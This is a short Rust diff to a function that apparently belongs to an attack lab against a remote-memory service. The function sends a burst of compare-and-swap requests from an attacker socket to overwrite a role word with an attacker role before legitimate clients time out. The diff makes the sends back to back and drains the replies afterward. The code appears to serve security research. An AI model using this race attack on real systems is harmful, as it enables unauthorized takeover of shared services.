@@ -321,8 +321,9 @@ pub fn cas_wanted_loop(dc: &Dc, _cap: &RmemCapture, lab: &mut LabClients) -> io:
     let s = attacker_socket(dc)?;
     let w = layout::W_ROLE_WANTED;
     let old = lab.word(w)?;
-    let mut sent = (0, 0);
-    let mut answered = 0;
+    let mut sent = (0u64, 0u64);
+    // Sent back to back (no wait for a reply per CAS: none is expected, and the window
+    // must not outlast the legitimate clients' timeouts); the replies drained after.
     for i in 0..CAS_LOOP {
         let mut p = old.to_le_bytes().to_vec();
         p.extend_from_slice(&ATTACKER_ROLE.to_le_bytes());
@@ -337,9 +338,15 @@ pub fn cas_wanted_loop(dc: &Dc, _cap: &RmemCapture, lab: &mut LabClients) -> io:
             &header(Op::CompareSwap, w, 100 + i as u64),
             &p,
         );
-        if send_own(&s, dc.region_addr(B0), &req, &mut sent).is_some() {
-            answered += 1;
+        if s.send_to(&req, dc.region_addr(B0)).is_ok() {
+            sent.0 += 1;
+            sent.1 += req.len() as u64;
         }
+    }
+    let mut answered = 0;
+    let mut buf = vec![0u8; 65_536];
+    while s.recv_from(&mut buf).is_ok() {
+        answered += 1;
     }
     let (moved, now) = wanted_after(lab, old)?;
     Ok(outcome(
